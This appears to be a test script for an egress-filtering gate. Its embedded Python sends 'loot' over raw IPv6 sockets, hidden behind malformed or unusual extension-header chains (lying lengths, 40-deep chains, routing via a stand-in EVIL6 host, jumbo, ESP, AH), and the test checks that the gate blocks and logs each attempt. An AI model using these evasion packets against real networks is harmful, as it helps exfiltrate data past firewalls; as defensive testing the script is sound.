#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: hides TCP and UDP behind chains of IPv6 extension headers, long, odd, with lengths that lie, with jumbo payload, ESP and AH, by a raw socket that is older than the gate
# stopped-by: egress
# reason: ipv6_extension, fragment
# kernels: all
. "$(dirname "$0")/lib.sh"
arena udp/9000

attack_by <<'PYTHON'
from attacker import *

HOP, ROUTING, FRAGMENT, ESP, AH, NONE, DESTINATION, MOBILITY = 0, 43, 44, 50, 51, 59, 60, 135
raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
ready()

def chain(tag, headers, last=17):
    """Each header of 8 bytes, or as given, and the number of the next one in its first byte."""
    body = udp_body(GOOD6, 9000, loot(tag))
    numbers = [number for number, _ in headers] + [last]
    packet = b"".join(bytes([following]) + rest for (_, rest), following in zip(headers, numbers[1:]))
    with attempt(tag):
        raw.sendto(ip6(GOOD6, numbers[0], packet + body), (GOOD6, 0))

PAD = bytes([0, 1, 4, 0, 0, 0, 0])
WHOLE = bytes([0, 0, 0, 0, 0, 0, 7]) # a fragment that is all there is
chain("hop", [(HOP, PAD)])
chain("destination", [(DESTINATION, PAD)])
chain("routing", [(ROUTING, bytes([0, 0, 0, 0, 0, 0, 0]))])
chain("routed", [(ROUTING, bytes([2, 0, 1, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, EVIL6))])
chain("ah", [(AH, bytes([1]) + bytes(10))])
chain("mobility", [(MOBILITY, bytes(7))])
chain("long", [(DESTINATION, PAD)] * 40)
chain("lying", [(DESTINATION, bytes([200, 1, 4, 0, 0, 0, 0]))])
chain("twice", [(HOP, PAD), (HOP, PAD)])
chain("odd", [(DESTINATION, PAD), (HOP, PAD), (ROUTING, bytes(7)), (FRAGMENT, WHOLE), (DESTINATION, PAD)])
chain("fragment", [(FRAGMENT, WHOLE)])
chain("reserved", [(FRAGMENT, bytes([0xFF, 0, 0, 0, 0, 0, 7]))])
chain("jumbo", [(HOP, bytes([0, 0xC2, 4, 0, 1, 0, 1]))])
chain("esp", [], ESP)
chain("none", [], NONE)
PYTHON
works_once_open stolen:{hop,destination,routing,routed,ah,mobility,long,lying,twice,odd,fragment,reserved,jumbo,esp,none}
stopped_once_open gate
recorded egress ipv6_extension
recorded egress fragment
